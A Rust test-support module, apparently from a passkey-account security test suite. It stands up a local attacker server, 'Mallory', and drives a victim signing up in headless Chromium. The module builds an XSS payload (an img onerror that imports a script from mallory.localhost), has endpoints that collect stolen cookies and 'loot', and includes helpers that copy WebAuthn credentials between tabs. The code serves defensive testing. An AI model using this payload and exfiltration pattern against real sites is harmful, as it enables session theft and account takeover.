//! The attacker's own server, and a victim in a real browser.

use std::{
    net::{Ipv4Addr, SocketAddr},
    sync::{Arc, Mutex, PoisonError},
};

use axum::{
    Router,
    extract::{Path, State},
    http::{HeaderMap, header},
    response::Html,
    routing::{get, post},
};
use passkey_accounts_tests::{
    chromium::{Chromium, Page, VirtualAuthenticator},
    shop::Shop,
};
use serde_json::{Value, json};
use tokio::{
    net::TcpListener,
    sync::mpsc::{UnboundedReceiver, UnboundedSender, unbounded_channel},
    task::JoinHandle,
};

use super::ADA;

/// A server that shows any page, hands out any script, and takes whatever it is sent.
pub(super) struct Mallory {
    port: u16,
    shared: Arc<Shared>,
    loot: UnboundedReceiver<String>,
    serving: JoinHandle<()>,
}

struct Shared {
    page: Mutex<String>,
    script: Mutex<String>,
    loot: UnboundedSender<String>,
}

impl Mallory {
    /// Whose page and script these are.
    pub(super) async fn start(page: &str, script: &str) -> Self {
        let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).await.unwrap();
        let port = listener.local_addr().unwrap().port();
        let (sender, loot) = unbounded_channel();
        let script = script.replace("MALLORY", &format!("http://mallory.localhost:{port}"));
        let shared =
            Arc::new(Shared { page: Mutex::new(page.to_owned()), script: Mutex::new(script), loot: sender });
        let routes = Router::new()
            .route("/", get(async |State(shared): State<Arc<Shared>>| Html(text(&shared.page))))
            .route(
                "/{name}",
                get(async |State(shared): State<Arc<Shared>>, Path(_): Path<String>| {
                    let fields = [
                        (header::CONTENT_TYPE, "text/javascript"),
                        (header::ACCESS_CONTROL_ALLOW_ORIGIN, "*"),
                    ];
                    (fields, text(&shared.script))
                }),
            )
            .route(
                "/loot",
                post(async |State(shared): State<Arc<Shared>>, loot: String| {
                    let _ = shared.loot.send(loot);
                }),
            )
            .route(
                "/headers",
                post(async |State(shared): State<Arc<Shared>>, headers: HeaderMap| {
                    let cookie = headers.get(header::COOKIE).and_then(|cookie| cookie.to_str().ok());
                    let _ = shared.loot.send(json!({ "cookie": cookie }).to_string());
                }),
            )
            .with_state(Arc::clone(&shared));
        let serving = tokio::spawn(async move { axum::serve(listener, routes).await.unwrap() });
        Self { port, shared, loot, serving }
    }

    /// `http://NAME.localhost:PORT`: any name is the attacker's.
    pub(super) fn origin(&self, name: &str) -> String {
        format!("http://{name}:{}", self.port)
    }

    /// Where it listens.
    pub(super) fn address(&self) -> SocketAddr {
        SocketAddr::from((Ipv4Addr::LOCALHOST, self.port))
    }

    /// A comment for the shop's hole that runs the script.
    pub(super) fn comment(&self) -> String {
        let script = format!("{}/payload.js", self.origin("mallory.localhost"));
        format!("<img src=x onerror=\"import('{script}')\">")
    }

    /// Shows another page.
    pub(super) fn show(&self, page: &str) {
        page.clone_into(&mut self.shared.page.lock().unwrap_or_else(PoisonError::into_inner));
    }

    /// What was sent next.
    pub(super) async fn loot(&mut self) -> Value {
        let loot = tokio::time::timeout(PATIENCE, self.loot.recv()).await;
        serde_json::from_str(&loot.expect("something is sent").unwrap()).unwrap()
    }
}

impl Drop for Mallory {
    fn drop(&mut self) {
        self.serving.abort();
    }
}

fn text(of: &Mutex<String>) -> String {
    of.lock().unwrap_or_else(PoisonError::into_inner).clone()
}

/// Somebody who has signed up in a browser's tab, and whom the shop knows by this name.
pub(super) struct Victim {
    pub(super) page: Page,
    authenticator: String,
    pub(super) name: String,
}

impl Victim {
    /// Signs up as a person does.
    pub(super) async fn sign_up(browser: &Chromium, shop: &Shop) -> Self {
        Self::sign_up_in(browser.open(&shop.origin).await.unwrap(), shop).await
    }

    /// Signs up in a tab that is open.
    pub(super) async fn sign_up_in(page: Page, shop: &Shop) -> Self {
        let authenticator = page.add_authenticator(VirtualAuthenticator::default()).await.unwrap();
        ready(&page).await;
        page.evaluate(&format!("shop.beginSignUp('{ADA}')")).await.unwrap();
        let code = match &shop.auth {
            Some(auth) => auth.mailed_code(ADA).unwrap(),
            None => shop.post("/outbox", &json!({ "email": ADA })).await.body,
        };
        let signed_up = page.evaluate(&format!("shop.signUp('{ADA}', 'sunshine', '{code}')")).await.unwrap();
        assert_eq!(signed_up, 200);
        assert_eq!(page.evaluate("shop.act('look around')").await.unwrap(), 200);
        let name = shop.actions().last().unwrap().who.clone();
        Self { page, authenticator, name }
    }

    /// What the tab's authenticator holds, to be used in another tab of the same person.
    pub(super) async fn credentials(&self) -> Value {
        let asked = json!({ "authenticatorId": self.authenticator });
        self.page.call("WebAuthn.getCredentials", asked).await.unwrap()["credentials"].clone()
    }

    /// Follows a link to the shop with a comment in it, in another tab.
    pub(super) async fn follow(&self, browser: &Chromium, shop: &Shop, comment: &str) -> Page {
        let fragment: String = comment.bytes().map(|byte| format!("%{byte:02x}")).collect();
        let page = browser.open(&format!("{}/#{fragment}", shop.origin)).await.unwrap();
        ready(&page).await;
        page
    }
}

/// Gives a tab an authenticator that holds these, and returns the browser's name for it.
pub(super) async fn give(page: &Page, credentials: &Value) -> String {
    let authenticator = page.add_authenticator(VirtualAuthenticator::default()).await.unwrap();
    for credential in credentials.as_array().unwrap() {
        let given = json!({ "authenticatorId": authenticator, "credential": credential });
        page.call("WebAuthn.addCredential", given).await.unwrap();
    }
    authenticator
}

/// Waits until the shop's page has run its script.
pub(super) async fn ready(page: &Page) {
    if let Err(error) = page.wait_until("document.body.dataset.ready").await {
        panic!("{error:#}");
    }
}

/// Far longer than anything here takes.
pub(super) const PATIENCE: std::time::Duration = std::time::Duration::from_secs(30);
